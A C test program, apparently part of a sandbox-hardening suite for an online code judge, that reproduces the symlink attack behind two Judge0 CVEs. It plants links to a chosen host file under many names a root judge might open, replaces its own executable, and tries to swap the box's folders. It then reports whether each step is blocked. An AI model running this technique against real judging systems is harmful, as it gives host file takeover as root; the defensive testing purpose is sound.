/* Leaves symbolic links to a file of the host under every name that a judge
 * might open, chmod or remove as root after the run: this is how Judge0 was
 * taken over twice (CVE-2024-28185, CVE-2024-28189). What must stop it: judged
 * opens nothing by name that a run could have made; outputs are descriptors. */
#include "attack.h"
#include <fcntl.h>
#include <sys/stat.h>

int main(int argc, char **argv)
{
	static const char *const names[] = {"stdout", "stderr", "stdin", "output", "output.txt", "out", "run.sh", "compile.sh", "result", "metadata",
		"core", "a.out", "test.out", "judged", ".judged", "main", "answer", "feedback", "/tmp/stdout", "/dev/shm/stdout"};
	char program[256];
	if (argc < 2)
		return 1;
	for (size_t i = 0; i < sizeof names / sizeof *names; i++)
		if (symlink(argv[1], names[i]) < 0)
			printf("%s: %s\n", names[i], strerror(errno));
	/* Through them, by itself. */
	if (open("stdout", O_RDONLY) >= 0 || open("stdout", O_WRONLY | O_APPEND) >= 0)
		broke("the link leads to the host's file");
	refused(chmod("stdout", 0600), "chmod");
	refused(chown("stdout", getuid(), -1), "chown");
	/* In the place of its own program, and of the folders. */
	ssize_t n = readlink("/proc/self/exe", program, sizeof program - 1);
	program[n < 0 ? 0 : n] = 0;
	if (unlink(program) < 0 || symlink(argv[1], program) < 0)
		printf("%s: %s\n", program, strerror(errno));
	if (rename("/box/work", "/box/old") == 0 || symlink("/", "/box/new") == 0)
		broke("the folders of the box can be replaced");
	held("the links wait for whoever opens them");
}
